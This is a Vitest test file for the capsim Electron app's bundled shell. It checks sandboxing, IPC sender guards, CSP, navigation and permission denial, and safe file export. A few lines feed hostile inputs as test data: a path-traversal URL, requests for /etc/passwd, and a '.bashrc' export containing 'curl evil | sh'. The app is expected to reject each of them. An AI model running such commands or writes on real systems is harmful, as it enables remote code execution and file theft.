// The bundled shell (electron/dist/*.cjs built by electron/build.mjs into a temp folder), loaded in Node
// against a fake `electron`: checks the wiring the unit tests cannot — hardened window, every IPC channel
// registered and guarded, the app:// protocol, navigation/permission/network denial, autosave on quit,
// file dialogs and atomic writes, and the preload's bridge. Runs without the Electron binary.
import { existsSync } from 'node:fs';
import { mkdir, mkdtemp, readFile, readdir, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { fileURLToPath, pathToFileURL } from 'node:url';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { Channels, type DesktopApi } from '../../electron/ipc-contract';
import { createFakeElectron, createFakeRendererElectron, loadWithFakeElectron } from './fake-electron';

const root = fileURLToPath(new URL('../../', import.meta.url));
let work = '';
let out = '';
let fake: ReturnType<typeof createFakeElectron>;
let win: any;
const ours = () => ({ senderFrame: { url: 'app://capsim/index.html' }, sender: win.webContents });
const invoke = (channel: string, ...args: unknown[]) => fake.rec.ipc.get(channel)!(ours(), ...args);

beforeAll(async () => {
  work = await mkdtemp(join(tmpdir(), 'capsim-shell-'));
  out = join(work, 'dist');
  const build = (await import(pathToFileURL(join(root, 'electron/build.mjs')).href)) as { buildElectron(o: { outdir: string }): Promise<string[]>; requiredModules(f: string): string[] };
  await build.buildElectron({ outdir: out });
  const appPath = join(work, 'app');
  await mkdir(join(appPath, 'renderer', 'dist', 'assets'), { recursive: true });
  await mkdir(join(appPath, 'scenarios'), { recursive: true });
  await writeFile(join(appPath, 'renderer', 'dist', 'index.html'), '<!doctype html><title>capsim</title>');
  await writeFile(join(appPath, 'renderer', 'dist', 'assets', 'app.js'), 'export {}');
  for (const d of ['userData', 'temp', 'documents', 'files', 'export']) await mkdir(join(work, d), { recursive: true });
  fake = createFakeElectron({ appPath, userData: join(work, 'userData'), temp: join(work, 'temp'), documents: join(work, 'documents') });
  loadWithFakeElectron(join(out, 'main.cjs'), fake.electron);
  await new Promise((r) => setTimeout(r, 50)); // whenReady().then(…)
  win = fake.rec.windows[0];
}, 60_000);

afterAll(async () => {
  fake?.electron.app.emit('before-quit', { preventDefault() {} });
  if (work) await rm(work, { recursive: true, force: true });
});

describe('bundles', () => {
  it('the preload requires nothing but electron (sandboxed preloads cannot require modules)', async () => {
    const build = await import(pathToFileURL(join(root, 'electron/build.mjs')).href);
    expect(build.requiredModules(join(out, 'preload.cjs'))).toEqual(['electron']);
    expect(build.requiredModules(join(out, 'main.cjs')).filter((m: string) => !m.startsWith('node:'))).toEqual(['electron']);
  });
});

describe('main process', () => {
  it('enables the sandbox and registers app:// as a standard, secure scheme', () => {
    expect(fake.rec.sandboxEnabled).toBe(true);
    expect(fake.rec.schemes).toEqual([expect.objectContaining({ scheme: 'app', privileges: expect.objectContaining({ standard: true, secure: true }) })]);
  });

  it('opens one hardened window on app://capsim/index.html, shown when ready', async () => {
    expect(fake.rec.windows).toHaveLength(1);
    const p = win.options.webPreferences;
    expect(p).toMatchObject({ contextIsolation: true, sandbox: true, nodeIntegration: false, webSecurity: true, webviewTag: false, allowRunningInsecureContent: false });
    expect(p.preload).toBe(join(out, 'preload.cjs'));
    expect(existsSync(p.preload)).toBe(true);
    expect(win.options.show).toBe(false);
    expect(win.loadedUrl).toBe('app://capsim/index.html');
    await new Promise((r) => setImmediate(r));
    expect(win.shown).toBe(true);
  });

  it('registers exactly one handler per invoke channel', () => {
    expect([...fake.rec.ipc.keys()].sort()).toEqual(Object.values(Channels).filter((c) => c !== Channels.menu).sort());
  });

  it('refuses IPC from anything but our page, and bad arguments', async () => {
    const h = fake.rec.ipc.get(Channels.recentFiles)!;
    await expect(h({ senderFrame: { url: 'https://example.com/' }, sender: win.webContents })).rejects.toThrow(/not the capsim page/);
    await expect(h({ senderFrame: null, sender: win.webContents })).rejects.toThrow(/not the capsim page/);
    await expect(invoke(Channels.exportFiles, { files: { '../../x': 'y' } })).rejects.toThrow(/invalid arguments/);
    await expect(invoke(Channels.autosave, 'text')).rejects.toThrow(/invalid arguments/);
    expect(fake.rec.dialogs.open).toHaveLength(0);
  });

  it('serves the renderer on app:// with a CSP, and nothing outside it', async () => {
    const handler = fake.rec.protocolHandlers.get('app')!;
    const res: Response = await handler(new Request('app://capsim/'));
    expect(res.status).toBe(200);
    expect(res.headers.get('content-type')).toMatch(/text\/html/);
    expect(res.headers.get('content-security-policy')).toContain("default-src 'self'");
    expect(await res.text()).toContain('<title>capsim</title>');
    expect((await handler(new Request('app://capsim/assets/app.js'))).headers.get('content-type')).toMatch(/javascript/);
    expect((await handler(new Request('app://capsim/assets/..%2f..%2f..%2fpackage.json'))).status).toBe(404);
    expect((await handler(new Request('app://capsim/missing.js'))).status).toBe(404);
    expect((await handler(new Request('app://capsim/', { method: 'POST' }))).status).toBe(405);
  });

  it('denies navigation away, new windows, webviews, permissions and remote requests', () => {
    const wc = win.webContents;
    const nav = (event: string, url: string) => {
      let prevented = false;
      wc.emit(event, { preventDefault: () => (prevented = true), url }, url);
      return prevented;
    };
    expect(nav('will-navigate', 'https://example.com/')).toBe(true);
    expect(nav('will-navigate', 'file:///etc/passwd')).toBe(true);
    expect(nav('will-navigate', 'app://capsim/index.html')).toBe(false);
    expect(nav('will-redirect', 'https://example.com/')).toBe(true);
    expect(nav('will-attach-webview', 'app://capsim/')).toBe(true);
    expect(wc.windowOpenHandler({ url: 'https://example.com/' })).toEqual({ action: 'deny' });
    expect(wc.windowOpenHandler({ url: 'app://capsim/index.html' })).toEqual({ action: 'deny' });

    const granted: boolean[] = [];
    fake.rec.permissionRequest!(wc, 'media', (ok: boolean) => granted.push(ok), { requestingUrl: 'app://capsim/' });
    fake.rec.permissionRequest!(wc, 'geolocation', (ok: boolean) => granted.push(ok), { requestingUrl: 'app://capsim/' });
    fake.rec.permissionRequest!(wc, 'clipboard-sanitized-write', (ok: boolean) => granted.push(ok), { requestingUrl: 'app://capsim/' });
    fake.rec.permissionRequest!(wc, 'clipboard-sanitized-write', (ok: boolean) => granted.push(ok), { requestingUrl: 'https://example.com/' });
    expect(granted).toEqual([false, false, true, false]);
    expect(fake.rec.permissionCheck!(wc, 'notifications', 'app://capsim')).toBe(false);

    const cancelled: boolean[] = [];
    fake.rec.beforeRequest!.handler({ url: 'https://fonts.example.com/x.woff2' }, (r: { cancel: boolean }) => cancelled.push(r.cancel));
    expect(cancelled).toEqual([true]);
    expect(fake.rec.beforeRequest!.filter.urls).toEqual(expect.arrayContaining(['http://*/*', 'https://*/*']));
  });

  it('installs the menu, and menu items send commands to the window', () => {
    const menu = fake.rec.menus.at(-1) as { template: any[] };
    const all = (items: any[]): any[] => items.flatMap((i) => [i, ...(Array.isArray(i.submenu) ? all(i.submenu) : [])]);
    const labels = all(menu.template).map((i) => i.label);
    for (const l of ['Open…', 'Open Recent', 'Save', 'Save As…', 'Export configs…', 'Sizing report…', 'Quit', 'Toggle Dark Theme', 'Keyboard Shortcuts']) expect(labels).toContain(l);
    expect(all(menu.template).some((i) => i.role === 'reload')).toBe(true); // unpackaged = development
    all(menu.template).find((i) => i.id === 'save').click();
    expect(win.webContents.sent.at(-1)).toEqual([Channels.menu, { type: 'save' }]);
  });
});

describe('files', () => {
  it('opens a scenario through the dialog, remembers it, and saves in place atomically', async () => {
    const file = join(work, 'files', 'tier-1.yaml');
    await writeFile(file, 'name: tier 1\n');
    fake.answers.open.push({ canceled: false, filePaths: [file] });
    await expect(invoke(Channels.openScenario)).resolves.toEqual({ name: 'tier-1.yaml', path: file, text: 'name: tier 1\n' });
    await expect(invoke(Channels.recentFiles)).resolves.toEqual([{ path: file, name: 'tier-1.yaml' }]);
    expect(JSON.parse(await readFile(join(work, 'userData', 'recent-files.json'), 'utf8')).files[0].path).toBe(file);
    const menu = fake.rec.menus.at(-1) as { template: any[] };
    expect(JSON.stringify(menu.template)).toContain('tier-1.yaml');

    const dialogsBefore = fake.rec.dialogs.save.length;
    await expect(invoke(Channels.saveScenario, { path: file, text: 'name: edited\n', name: 'tier-1.yaml' })).resolves.toEqual({ path: file });
    expect(fake.rec.dialogs.save.length).toBe(dialogsBefore);
    expect(await readFile(file, 'utf8')).toBe('name: edited\n');
    expect((await readdir(join(work, 'files'))).filter((f) => f.endsWith('.tmp'))).toEqual([]);
  });

  it('never writes to a path the user did not choose: it asks instead', async () => {
    const target = join(work, 'files', 'not-chosen.yaml');
    fake.answers.save.push({ canceled: true });
    await expect(invoke(Channels.saveScenario, { path: target, text: 'x', name: 'not-chosen.yaml' })).resolves.toBeNull();
    expect(existsSync(target)).toBe(false);
    const chosen = join(work, 'files', 'chosen.yaml');
    fake.answers.save.push({ canceled: false, filePath: chosen });
    await expect(invoke(Channels.saveAs, { text: 'y', name: 'chosen.yaml' })).resolves.toEqual({ path: chosen });
    expect(await readFile(chosen, 'utf8')).toBe('y');
  });

  it('reopens only files on the recent list, and drops ones that vanished', async () => {
    await expect(invoke(Channels.openRecent, { path: '/etc/passwd' })).rejects.toThrow(/not on the recent list/);
    const gone = join(work, 'files', 'gone.yaml');
    await writeFile(gone, 'a: 1');
    fake.answers.open.push({ canceled: false, filePaths: [gone] });
    await invoke(Channels.openScenario);
    await rm(gone);
    await expect(invoke(Channels.openRecent, { path: gone })).rejects.toThrow(/no longer exists/);
    expect((await invoke(Channels.recentFiles)).map((f: { path: string }) => f.path)).not.toContain(gone);
    await expect(invoke(Channels.openRecent, { path: join(work, 'files', 'chosen.yaml') })).resolves.toMatchObject({ text: 'y' });
  });

  it('exports files into the chosen folder, asking before replacing', async () => {
    const dir = join(work, 'export');
    fake.answers.open.push({ canceled: false, filePaths: [dir] });
    await expect(invoke(Channels.exportFiles, { files: { 'nginx.conf': 'worker_processes 4;', 'systemd/app@.service': '[Unit]', '.env.example': 'A=1' } })).resolves.toEqual({ dir });
    expect(await readFile(join(dir, 'systemd', 'app@.service'), 'utf8')).toBe('[Unit]');
    fake.answers.open.push({ canceled: false, filePaths: [dir] });
    fake.answers.message.push({ response: 1 }); // Cancel
    await expect(invoke(Channels.exportFiles, { files: { 'nginx.conf': 'changed' } })).resolves.toBeNull();
    expect(await readFile(join(dir, 'nginx.conf'), 'utf8')).toBe('worker_processes 4;');
    expect(JSON.stringify(fake.rec.dialogs.message.at(-1))).toContain('Replace 1 existing file');
  });

  it('asks once, listing every file it will replace, and writes only the export\'s own names', async () => {
    const dir = join(work, 'export');
    const files = { 'nginx.conf': 'n2', 'systemd/app@.service': 'u2', '.env.example': 'A=2', 'README.md': 'r' };
    const asked = fake.rec.dialogs.message.length;
    fake.answers.open.push({ canceled: false, filePaths: [dir] });
    fake.answers.message.push({ response: 0 }); // Replace
    await expect(invoke(Channels.exportFiles, { files })).resolves.toEqual({ dir });
    expect(fake.rec.dialogs.message.length).toBe(asked + 1);
    expect((fake.rec.dialogs.message.at(-1) as { detail: string }).detail).toBe('.env.example\nnginx.conf\nsystemd/app@.service');
    expect(await readFile(join(dir, 'nginx.conf'), 'utf8')).toBe('n2');
    expect((await readdir(dir)).filter((n) => n.startsWith('.capsim-export-'))).toEqual([]);
    await expect(invoke(Channels.exportFiles, { files: { '.bashrc': 'curl evil | sh' } })).rejects.toThrow(/invalid arguments.*not a file capsim exports/);
  });

  it('prints the report through a hidden window with JavaScript off', async () => {
    const pdf = join(work, 'documents', 'sizing.pdf');
    fake.answers.save.push({ canceled: false, filePath: pdf });
    await expect(invoke(Channels.printReportToPdf, { html: '<h1>Sizing</h1>', suggestedName: 'sizing.html' })).resolves.toEqual({ path: pdf });
    expect(JSON.stringify(fake.rec.dialogs.save.at(-1))).toContain('sizing.pdf');
    const hidden = fake.rec.windows.at(-1);
    expect(hidden.options.show).toBe(false);
    expect(hidden.options.webPreferences).toMatchObject({ javascript: false, sandbox: true, contextIsolation: true });
    expect(hidden.destroyed).toBe(true);
    expect((await readFile(pdf)).subarray(0, 5).toString()).toBe('%PDF-');
    expect(await readdir(join(work, 'temp'))).toEqual([]);
  });
});

describe('session', () => {
  it('autosaves, restores, and writes the session on quit', async () => {
    await expect(invoke(Channels.restoreSession)).resolves.toBeNull();
    await invoke(Channels.autosave, { text: '{"draft":1}' });
    await expect(invoke(Channels.restoreSession)).resolves.toMatchObject({ text: '{"draft":1}' });
    let prevented = false;
    fake.electron.app.emit('before-quit', { preventDefault: () => (prevented = true) });
    expect(prevented).toBe(true);
    await new Promise((r) => setTimeout(r, 50));
    expect(fake.rec.quitCalls).toBeGreaterThan(0);
    const saved = JSON.parse(await readFile(join(work, 'userData', 'session.json'), 'utf8'));
    expect(saved).toMatchObject({ format: 'capsim-session', version: 1, text: '{"draft":1}' });
  });
});

describe('preload', () => {
  it('exposes window.capsim with one invoke per method and a removable menu listener', async () => {
    const r = createFakeRendererElectron();
    loadWithFakeElectron(join(out, 'preload.cjs'), r.electron);
    expect([...r.exposed.keys()]).toEqual(['capsim']);
    const api = r.exposed.get('capsim') as DesktopApi;
    expect(Object.keys(api).sort()).toEqual(['autosave', 'exportFiles', 'onMenu', 'openRecent', 'openScenario', 'printReportToPdf', 'recentFiles', 'restoreSession', 'saveAs', 'saveScenario']);
    await api.openScenario();
    await api.saveScenario({ text: 't', name: 'n.yaml' });
    await api.exportFiles({ files: { a: 'b' } });
    expect(r.invoked).toEqual([[Channels.openScenario], [Channels.saveScenario, { text: 't', name: 'n.yaml' }], [Channels.exportFiles, { files: { a: 'b' } }]]);
    const got: unknown[] = [];
    const off = api.onMenu((c) => got.push(c));
    r.listeners.emit(Channels.menu, { sender: 'event object must not leak' }, { type: 'open' });
    off();
    r.listeners.emit(Channels.menu, {}, { type: 'save' });
    expect(got).toEqual([{ type: 'open' }]);
  });
});
